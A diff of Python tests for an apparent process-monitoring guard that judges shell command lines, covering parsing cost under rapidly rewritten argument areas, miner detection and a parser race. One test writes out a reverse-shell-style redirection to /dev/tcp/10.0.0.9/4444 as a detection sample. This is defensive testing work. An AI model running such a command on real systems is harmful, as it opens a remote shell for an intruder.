@@ -112,6 +112,26 @@ def test_a_command_line_is_read_once_however_often_it_is_judged(work, monkeypatc
     assert len(reads) == 1, reads
 
 
+def test_a_shell_whose_script_changes_at_every_tick_spends_its_budget_then_little(work):
+    """A root user rewrites a shell's argument area at every tick: each new command line was
+    read in full (430,000 characters of work, 170 ms). Each process has PROCESS_WORK for its
+    readings; past it, a new command line is read only as far as SPENT_WORK, and a redirection
+    to a network device that far still shows."""
+    from colab_guard.observe.model import Snapshot
+
+    engine = Engine(load_signatures(), log=logging.getLogger("test"))
+    per_tick = []
+    for tick in range(40):
+        work.clear()
+        shell = _shell(HOSTILE["eval-substitution"] + f" #{tick}")
+        engine.evaluate(Snapshot("k", float(tick), [shell]))
+        per_tick.append(sum(work.values()))
+    assert sum(per_tick[:20]) > 0 and max(per_tick[-10:]) <= WORK_BOUND // 16, per_tick
+    opened = "d=/dev; exec 3<>$d/tcp/10.0.0.9/4444; " + HOSTILE["eval-substitution"]
+    judged = as_judged(_shell(opened + " #x"), engine._scripts_of("k", shell))
+    assert "<> /dev/tcp/10.0.0.9/4444" in judged.cmdline, judged.cmdline[-2:]
+
+
 def test_the_parses_kept_hold_digests_not_command_lines(work):
     """Keyed by the command line, the 1,024 parses kept held every one of them: 1,100 command
     lines of 60 KiB (a storm of execs, or a flipped argument area) kept 64 MiB alive."""
@@ -163,6 +183,13 @@ while True:
 """
 
 
+def _wait_exec(procs: list[subprocess.Popen], name: str) -> None:
+    deadline = time.monotonic() + 10
+    while time.monotonic() < deadline and any(
+            open(f"/proc/{p.pid}/comm").read().strip() != name for p in procs):
+        time.sleep(0.01)  # polling for their exec
+
+
 def test_shells_whose_hostile_scripts_change_every_tick_cost_a_bounded_read(work, tmp_path):
     """Four shells that stay up, their hostile script's last word rewritten every 0.3 s by a
     root process: a command line never seen before at every tick. Each tick reads each of them
@@ -173,7 +200,7 @@ def test_shells_whose_hostile_scripts_change_every_tick_cost_a_bounded_read(work
     sampler = ProcessSampler()
     engine = Engine(load_signatures(), log=logging.getLogger("test"))
     try:
-        time.sleep(0.2)  # (their argument areas are in place at exec: bash is running)
+        _wait_exec(shells, "bash")  # (the flipper writes into bash's argument area)
         flipper = subprocess.Popen([PYTHON, "-c", FLIPPER, *(str(s.pid) for s in shells)],
                                    stdout=subprocess.PIPE)
         assert flipper.stdout.readline() == b"up\n"
@@ -290,10 +317,7 @@ def test_a_named_miner_in_a_storm_of_hostile_shells_is_checked_first_and_at_once
     pids = [p.pid for p in shells] + [miner.pid]
     events._lineage = {pid: "k1" for pid in pids}
     try:
-        deadline = time.monotonic() + 10
-        while time.monotonic() < deadline and any(  # (bash has exec'd, sleep is its child)
-                open(f"/proc/{p.pid}/comm").read().strip() != "bash" for p in shells):
-            time.sleep(0.01)
+        _wait_exec(shells, "bash")  # (sleep is its child)
         started = [(pid, events._remember_argv(pid)) for pid in pids]
         events._check_all_at_exec(started)
     finally:
@@ -302,3 +326,30 @@ def test_a_named_miner_in_a_storm_of_hostile_shells_is_checked_first_and_at_once
             p.wait()
     assert checked[0] == ("xmrig", True), checked[:3]
     assert events.left_to_pass > 0 and len(checked) - 1 + events.left_to_pass == len(shells)
+
+
+# ---------------------------------------------------------------- the script threads
+
+
+def test_a_parse_that_races_another_thread_reads_the_script_all_the_same(monkeypatch):
+    """CPython 3.11 keeps the depth of its AST conversion in state threads share: two parses
+    at once (the content scanner's two script threads) raised SystemError ("AST constructor
+    recursion depth mismatch", seen in this session's benchmark), which failed the whole
+    script's reading (and its local modules'). Now tried again, then read by its tokens."""
+    import ast
+
+    from colab_guard.observe import scripts
+
+    source = b"import socket\nfrom helper import mine\nmine(socket)\n"
+    parse, failures = ast.parse, []
+
+    def racing(text, *args, **kwargs):
+        if len(failures) < fail_times:
+            failures.append(1)
+            raise SystemError("AST constructor recursion depth mismatch (before=39, after=27)")
+        return parse(text, *args, **kwargs)
+    monkeypatch.setattr(scripts.ast, "parse", racing)
+    for fail_times in (1, 2):  # once: parsed on the retry; twice: read by its tokens
+        failures.clear()
+        evidence = scripts.python_evidence(source)
+        assert {"socket", "helper"} <= set(evidence.imports), (fail_times, evidence.imports)
